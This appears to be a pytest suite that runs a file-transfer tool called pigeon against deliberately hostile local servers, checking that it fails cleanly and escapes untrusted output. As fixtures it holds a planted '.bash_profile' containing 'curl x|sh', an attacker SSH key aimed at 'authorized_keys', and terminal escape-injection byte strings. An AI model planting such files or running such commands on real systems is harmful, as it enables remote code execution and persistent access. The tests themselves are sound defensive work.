"""Hostile servers and peers against pigeon's clients (and hostile headers against pigeon
serve): every attack ends in a clear outcome — the exit code, one line, no traceback, nothing
under a final name, no ``.part`` a user would not expect — and never in a crash.

The hostile servers are small asyncio servers in this process (``tests.faults.tcp_server``),
on 127.0.0.1 only; pigeon runs as a real process (``run_pigeon``).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import pty
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from pigeon.proto.local_names import listed_name, safe_local_name
from tests.faults import Handler, scripted_http, tcp_server
from tests.helpers import PIGEON, free_port, one_line_error, pigeon_server, run_pigeon

ESC = b"\x1b"
HUGE = "9" * 5000  # beyond Python's 4,300-digit int limit


def answer(body: bytes, *, status: str = "200 OK", headers: bytes = b"") -> bytes:
    return b"HTTP/1.1 %s\r\nContent-Length: %d\r\n%s\r\n%s" % (
        status.encode(),
        len(body),
        headers,
        body,
    )


def routed(route: Callable[[str], bytes]) -> Handler:
    """A keep-alive HTTP server answering each request head with ``route(target)``."""

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                while True:
                    head = await reader.readuntil(b"\r\n\r\n")
                    target = head.split(b" ", 2)[1].decode("latin-1")
                    writer.write(route(target))
                    await writer.drain()
        finally:
            writer.close()

    return handle


@contextlib.contextmanager
def hostile(route: Callable[[str], bytes]) -> Iterator[str]:
    with tcp_server(routed(route)) as port:
        yield f"127.0.0.1:{port}"


def get(*args: str, cwd: Path) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [*PIGEON, "get", *args, "--retries", "0", "--timeout", "5"],
        capture_output=True,
        timeout=60,
        cwd=cwd,
        check=False,
    )


def files_in(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*"))


# ----- 2. a listing that plants dot-files ---------------------------------------------------

PLANTED = {".ssh/authorized_keys": b"ssh-ed25519 AAAA attacker\n", ".bash_profile": b"curl x|sh\n"}


def _json_listing(names: dict[str, str]) -> bytes:
    entries = [{"name": n, "type": t, "size": 1, "mtime": 0} for n, t in names.items()]
    return json.dumps({"path": "/", "entries": entries}).encode()


def _planting_route(kind: str) -> Callable[[str], bytes]:
    """A server listing ``.ssh/``, ``.bash_profile`` and ``ok.txt``, and serving each."""

    def route(target: str) -> bytes:
        path = target.partition("?")[0]
        if path == "/":
            if kind == "json":
                listing = _json_listing({".ssh": "dir", ".bash_profile": "file", "ok.txt": "file"})
                return answer(listing, headers=b"Content-Type: application/json\r\n")
            html = b'<a href="../">..</a><a href=".ssh/">.ssh/</a>'
            html += b'<a href=".bash_profile">p</a><a href="ok.txt">ok.txt</a>'
            return answer(html, headers=b"Content-Type: text/html\r\n")
        if path == "/.ssh/":
            if kind == "json":
                listing = _json_listing({"authorized_keys": "file"})
                return answer(listing, headers=b"Content-Type: application/json\r\n")
            html = b'<a href="authorized_keys">authorized_keys</a>'
            return answer(html, headers=b"Content-Type: text/html\r\n")
        planted = PLANTED.get(path.lstrip("/"))
        return answer(planted if planted is not None else b"fine\n")

    return route


@pytest.mark.parametrize("kind", ["json", "html"])
def test_a_listing_never_plants_dot_files_even_with_force(tmp_path: Path, kind: str) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    mine = {".ssh/authorized_keys": b"my own key\n", ".bash_profile": b"my profile\n"}
    for name, data in mine.items():
        (home / name).write_bytes(data)
    with hostile(_planting_route(kind)) as server:
        result = get(server, "-r", "--force", cwd=home)
    assert result.returncode == 0, result.stderr
    assert b"Traceback" not in result.stderr
    assert result.stderr.count(b"skipped 2 hidden entries") == 1, result.stderr
    for name, data in mine.items():  # neither written nor replaced
        assert (home / name).read_bytes() == data
    assert (home / "ok.txt").read_bytes() == b"fine\n"
    assert files_in(home) == [".bash_profile", ".ssh", ".ssh/authorized_keys", "ok.txt"]
    # asked for by name, they are taken: the test's server does plant them
    into = tmp_path / "taken"
    with hostile(_planting_route(kind)) as server:
        taken = get(server, "-r", "--hidden", "-o", f"{into}/", cwd=tmp_path)
    assert taken.returncode == 0, taken.stderr
    assert (into / ".ssh" / "authorized_keys").read_bytes() == PLANTED[".ssh/authorized_keys"]


# ----- 6. numbers beyond any bound ----------------------------------------------------------


@pytest.mark.parametrize(
    "header",
    [f"bytes={HUGE}-", f"bytes=0-{HUGE}", f"bytes=-{HUGE}", "bytes=²-", "bytes=0-²", "bytes=١-"],
)
def test_pigeon_serve_ignores_a_range_it_cannot_read(tmp_path: Path, header: str) -> None:
    """RFC 9110: a Range the server does not understand is ignored: the whole file, 200."""
    root = tmp_path / "root"
    root.mkdir()
    (root / "f.txt").write_bytes(b"0123456789")
    port = free_port()
    with pigeon_server(["serve", str(root), "--bind", "127.0.0.1", "--port", str(port)]) as server:
        for _ in range(3):  # and again: the server keeps answering
            with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
                request = f"GET /f.txt HTTP/1.1\r\nHost: x\r\nRange: {header}\r\n\r\n"
                sock.sendall(request.encode("utf-8"))
                got = _read_answer(sock)
            assert got.startswith(b"HTTP/1.1 200 "), got[:200]
            assert got.endswith(b"\r\n\r\n0123456789")
        assert server.proc.poll() is None
        time.sleep(0.2)
        assert b"Traceback" not in server.err, server.err.decode()


def _read_answer(sock: socket.socket) -> bytes:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        assert chunk, data
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    length = int(head.lower().split(b"content-length:")[1].split(b"\r\n")[0])
    while len(body) < length:
        chunk = sock.recv(65536)
        assert chunk
        body += chunk
    return data


HOSTILE_ANSWERS = {
    "content-length-5000-digits": b"HTTP/1.1 200 OK\r\nContent-Length: %s\r\n\r\nabc"
    % HUGE.encode(),
    "content-length-superscript": "HTTP/1.1 200 OK\r\nContent-Length: ²\r\n\r\nabc".encode(),
    "content-range-5000-digits": b"HTTP/1.1 206 Partial\r\nContent-Range: bytes 0-%s/*\r\n"
    b"Content-Length: 3\r\n\r\nabc" % HUGE.encode(),
    "content-range-superscript": "HTTP/1.1 206 Partial\r\nContent-Range: bytes 0-²/3\r\n"
    "Content-Length: 3\r\n\r\nabc".encode(),
    "chunk-size-5000-digits": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
    + b"f" * 5000
    + b"\r\nabc\r\n0\r\n\r\n",
    "chunk-size-17-digits": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
    + b"1" * 17
    + b"\r\nabc\r\n0\r\n\r\n",
    "chunk-size-superscript": "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n²\r\n"
    "ab\r\n0\r\n\r\n".encode(),
    "second-chunk-superscript": "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
    "3\r\nabc\r\n²\r\nab\r\n0\r\n\r\n".encode(),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_ANSWERS))
def test_a_number_no_parser_can_take_is_a_bad_answer(tmp_path: Path, name: str) -> None:
    with tcp_server(scripted_http(HOSTILE_ANSWERS[name])) as port:
        result = get(f"127.0.0.1:{port}", "f.bin", cwd=tmp_path)
    assert result.returncode == 13, result.stderr
    line = one_line_error(result)
    assert "bad answer from the server" in line, line
    assert files_in(tmp_path) == []  # no f.bin, no .part, no sidecar


def test_a_bad_answer_to_a_resume_keeps_what_earlier_answers_brought(tmp_path: Path) -> None:
    """A broken chunk mid-resume drops only what the broken answer brought."""
    data = os.urandom(3 << 20)
    full = answer(data, headers=b'ETag: "v1"\r\n')
    broken = (
        b'HTTP/1.1 206 Partial\r\nETag: "v1"\r\nContent-Range: bytes 1048576-%d/%d\r\n'
        b"Transfer-Encoding: chunked\r\n\r\n10\r\n%s\r\n\xc2\xb2\r\n"
        % (len(data) - 1, len(data), data[1 << 20 : (1 << 20) + 16])
    )
    # a first run cut after 1 MiB leaves a resumable .part
    with tcp_server(scripted_http(full[: len(full) - len(data) + (1 << 20)])) as port:
        first = get(f"127.0.0.1:{port}", "f.bin", cwd=tmp_path)
        assert first.returncode == 14, first.stderr
        assert (tmp_path / "f.bin.part").stat().st_size == 1 << 20
        with tcp_server(scripted_http(broken)) as evil:
            result = get(f"127.0.0.1:{evil}", "f.bin", cwd=tmp_path)
    assert result.returncode == 13, result.stderr
    assert "bad answer from the server" in one_line_error(result, skip="resuming")
    assert not (tmp_path / "f.bin").exists()
    assert (tmp_path / "f.bin.part").read_bytes() == data[: 1 << 20]


# ----- 9. timestamps that are no time -------------------------------------------------------

ODD_MTIMES = {
    "nan.txt": "NaN",
    "inf.txt": "Infinity",
    "minus-inf.txt": "-Infinity",
    "negative.txt": "-5",
    "huge-float.txt": "1e400",
    "big-int.txt": "9" * 400,  # float() of it overflows
    "huge-int.txt": HUGE,  # int() of it raises
    "string.txt": '"yesterday"',
    "year-3000.txt": "32503680000",
}


def test_a_listing_with_times_that_are_no_time_still_mirrors(tmp_path: Path) -> None:
    entries = [
        b'{"name": "%s", "type": "file", "size": 5, "mtime": %s}' % (n.encode(), v.encode())
        for n, v in ODD_MTIMES.items()
    ]
    entries.append(
        b'{"name": "good.txt", "type": "file", "size": %s, "mtime": 1000000000}' % HUGE.encode()
    )
    listing = b'{"path": "/", "entries": [%s]}' % b",".join(entries)

    def route(target: str) -> bytes:
        if target.partition("?")[0] == "/":
            return answer(listing, headers=b"Content-Type: application/json\r\n")
        return answer(b"data\n")

    out = tmp_path / "out"
    with hostile(route) as server:
        result = get(server, "-r", "-o", f"{out}/", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert b"Traceback" not in result.stderr
    assert result.stderr.count(b"9 listed modification times were not a time") == 1
    assert files_in(out) == sorted([*ODD_MTIMES, "good.txt"])
    assert (out / "good.txt").stat().st_mtime == 1_000_000_000
    assert all((out / name).read_bytes() == b"data\n" for name in ODD_MTIMES)
    now = time.time()
    assert all(abs((out / name).stat().st_mtime - now) < 120 for name in ODD_MTIMES)


# ----- 10. redirects ------------------------------------------------------------------------

BAD_LOCATIONS = {
    "space": b"/a b",
    "non-ascii": "/é".encode(),
    "control": b"/a\x01b",
    "escape": b"/a\x1b[2Jb",
    "10-kb": b"/" + b"a" * 10_000,
    "ftp": b"ftp://127.0.0.1/x",
    "https": b"https://127.0.0.1/x",
    "protocol-relative": b"//other/x",
    "another-host": b"http://other.example/x",
    "empty": b"",
    "blank": b"   ",
    "broken-ipv6": b"http://[::1/x",
    "bad-port": b"http://127.0.0.1:99999/x",
}


@pytest.mark.parametrize("name", sorted(BAD_LOCATIONS))
def test_a_bad_redirect_is_one_line_and_nothing_is_written(tmp_path: Path, name: str) -> None:
    response = (
        b"HTTP/1.1 302 Found\r\nLocation: %s\r\nContent-Length: 0\r\n\r\n" % (BAD_LOCATIONS[name])
    )
    with tcp_server(scripted_http(response)) as port:
        result = get(f"127.0.0.1:{port}", "f.bin", cwd=tmp_path)
    assert result.returncode == 13, result.stderr
    line = one_line_error(result)
    assert "the server redirected" in line, line
    assert len(line) < 400 and "\x1b" not in line
    assert files_in(tmp_path) == []


def test_a_redirect_on_the_same_host_is_followed(tmp_path: Path) -> None:
    """The validation refuses only what it should: another port of the same host is fine."""
    with tcp_server(scripted_http(answer(b"moved here\n"))) as target:
        moved = b"HTTP/1.1 301 Moved\r\nLocation: http://127.0.0.1:%d/new#part\r\n\r\n" % target
        with tcp_server(scripted_http(moved)) as port:
            result = get(f"127.0.0.1:{port}", "f.bin", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "f.bin").read_bytes() == b"moved here\n"


# ----- 11. enormous names -------------------------------------------------------------------


def _best_of(runs: int, work: Callable[[], object]) -> float:
    best = float("inf")
    for _ in range(runs):
        start = time.perf_counter()
        work()
        best = min(best, time.perf_counter() - start)
    return best


@pytest.mark.parametrize("char", ["a", "é", "\x01", ".", " ", "中"])
def test_the_name_cleaners_are_linear(char: str) -> None:
    """Linear: 250x the length costs about 250x the time (a quadratic cleaner: 62,500x).
    The bound is generous (20x linear) so a loaded machine cannot fail it."""
    for cleaner in (safe_local_name, listed_name):
        small = _best_of(20, lambda: cleaner(char * 1_000))  # noqa: B023
        large = _best_of(3, lambda: cleaner(char * 250_000))  # noqa: B023
        huge = _best_of(2, lambda: cleaner(char * 1_000_000))  # noqa: B023
        floor = 20e-6  # timer resolution and call overhead: a 1,000-char name is that cheap
        assert large / max(small, floor) < 250 * 20, (cleaner, small, large)
        assert huge / max(small, floor) < 1_000 * 20, (cleaner, small, huge)
        assert huge < 1.0


@pytest.mark.parametrize("kind", ["json", "html"])
def test_a_mirror_of_an_enormous_listed_name_ends_quickly_and_says_why(
    tmp_path: Path, kind: str
) -> None:
    name = "é" * 250_000

    def route(target: str) -> bytes:
        if target.partition("?")[0] != "/":
            return answer(b"fine\n")
        if kind == "json":
            listing = _json_listing({name: "file", "ok.txt": "file"})
            return answer(listing, headers=b"Content-Type: application/json\r\n")
        html = f'<a href="{quote(name)}">x</a><a href="ok.txt">ok</a>'.encode()
        return answer(html, headers=b"Content-Type: text/html\r\n")

    out = tmp_path / "out"
    with hostile(route) as server:
        start = time.monotonic()
        result = get(server, "-r", "-o", f"{out}/", cwd=tmp_path)
        took = time.monotonic() - start
    assert result.returncode == 13, result.stderr
    assert took < 15, took  # was minutes of CPU
    err = result.stderr.decode()
    assert "Traceback" not in err
    assert "(250,000 characters)': 500,000 bytes long (a file name holds at most 255)" in err
    assert all(len(line) < 500 for line in err.splitlines())
    assert files_in(out) == ["ok.txt"]


# ----- tcp connect --------------------------------------------------------------------------


@contextlib.contextmanager
def answering_then_closing(reply: bytes, *, read_first: bool) -> Iterator[int]:
    """A TCP server that sends ``reply`` and closes (after reading, or at once)."""
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    stop = threading.Event()

    def serve() -> None:
        listener.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            with conn:
                if read_first:
                    conn.settimeout(5)
                    with contextlib.suppress(OSError):
                        conn.recv(65536)
                conn.sendall(reply)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield port
    finally:
        stop.set()
        thread.join(5)
        listener.close()


def test_tcp_send_to_a_server_that_answers_and_closes_is_success() -> None:
    """The server answers and closes without reading. When its close comes first (FIN), our
    text then meets a closed socket and the half-close fails with ENOTCONN: that was exit 1
    ("Transport endpoint is not connected") every time; it is the end of the exchange. When
    our text arrives before its close, its kernel aborts the connection (RST: unread data):
    that is reported as such (14). Either way the reply is printed, never a traceback."""
    reply = b"thank you !\n"
    codes = []
    with answering_then_closing(reply, read_first=False) as port:
        for _ in range(20):  # which comes first is up to the scheduler: both are seen
            result = run_pigeon(["tcp", "connect", "127.0.0.1", str(port), "--send", "hello"])
            assert result.stdout == reply
            codes.append(result.returncode)
            if result.returncode != 0:
                assert result.returncode == 14, result.stderr
                assert "connection lost (Connection reset by peer)" in one_line_error(result)
    assert 0 in codes, codes  # the FIN-first order was met (it was exit 1 before)


def test_tcp_send_to_a_server_that_reads_answers_and_closes() -> None:
    reply = b"thank you !\n"
    with answering_then_closing(reply, read_first=True) as port:
        for _ in range(5):
            result = run_pigeon(["tcp", "connect", "127.0.0.1", str(port), "--send", "hello"])
            assert (result.returncode, result.stdout, result.stderr) == (0, reply, b"")


HOSTILE_BYTES = (
    b"hi \x1b[2J\x1b]0;pwned\x07 \x9b31m \xc2\x9b \xe2\x80\xae evil\r\n\xff\xfe\x00 end\n"
)


def test_tcp_connect_escapes_a_peer_on_a_terminal_and_pipes_raw() -> None:
    with answering_then_closing(HOSTILE_BYTES, read_first=True) as port:
        piped = run_pigeon(["tcp", "connect", "127.0.0.1", str(port), "--send", "x"])
        assert piped.returncode == 0, piped.stderr
        assert piped.stdout == HOSTILE_BYTES  # byte-exact into a pipe
        main, secondary = pty.openpty()
        try:
            proc = subprocess.run(
                [*PIGEON, "tcp", "connect", "127.0.0.1", str(port), "--send", "x"],
                stdin=subprocess.DEVNULL,
                stdout=secondary,
                stderr=subprocess.PIPE,
                timeout=20,
                check=False,
            )
            os.close(secondary)
            shown = b""
            with contextlib.suppress(OSError):  # EIO once everything was read
                while chunk := os.read(main, 65536):
                    shown += chunk
        finally:
            os.close(main)
    assert proc.returncode == 0, proc.stderr
    assert ESC not in shown and b"\x07" not in shown and b"\x00" not in shown
    assert b"\x9b" not in shown.replace(b"\\x9b", b"")
    assert "\u202e".encode() not in shown
    text = shown.decode("utf-8")
    assert "hi \\x1b[2J\\x1b]0;pwned\\x07" in text
    assert "\\u202e evil" in text and "\\xff\\xfe\\x00 end" in text
    assert "evil\r\n" in text  # line breaks stay line breaks (the pty adds its \r)


def test_a_servers_words_in_an_error_line_are_escaped(tmp_path: Path) -> None:
    """What a server says (its Content-Type, a listed name) reaches the error and notice
    lines escaped: a folder answered with a hostile type, a listing with hostile names."""
    evil_type = b"text/\x1b]0;pwned\x07\x1b[2Jx"

    def route(target: str) -> bytes:
        if target.startswith("/folder/"):
            return answer(b"{}", headers=b"Content-Type: " + evil_type + b"\r\n")
        names = {"a\x1b[31mred\x07/b": "file", "\x9b2J\u202etxt.exe": "file"}
        return answer(_json_listing(names), headers=b"Content-Type: application/json\r\n")

    with hostile(route) as where:
        typed = get(f"http://{where}/folder/", "-r", "-o", "t/", cwd=tmp_path)
        named = get(f"http://{where}/", "-r", "-o", "n/", cwd=tmp_path)
    for result in (typed, named):
        assert result.returncode != 0
        shown = result.stdout + result.stderr
        assert ESC not in shown and b"\x07" not in shown and b"\xc2\x9b" not in shown, shown
        assert "\u202e".encode() not in shown and b"Traceback" not in shown
    assert b"(text/\\x1b]0)" in typed.stderr  # the type up to its ";", escaped


def test_r_on_a_file_is_said_from_its_type_not_after_its_body(tmp_path: Path) -> None:
    """The listing request answered with a file whose body does not end: pigeon says it is
    not a folder at the head, instead of reading up to 64 MiB of it as a listing."""
    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
    response = head + b"Content-Length: 1073741824\r\n\r\n" + b"x" * 1000
    with tcp_server(scripted_http(response, then_stall=30)) as port:
        began = time.monotonic()
        result = get(f"127.0.0.1:{port}", "big.bin", "-r", cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert time.monotonic() - began < 10
    line = one_line_error(result)
    assert "is not a folder (application/octet-stream): drop -r" in line, line
    assert files_in(tmp_path) == []
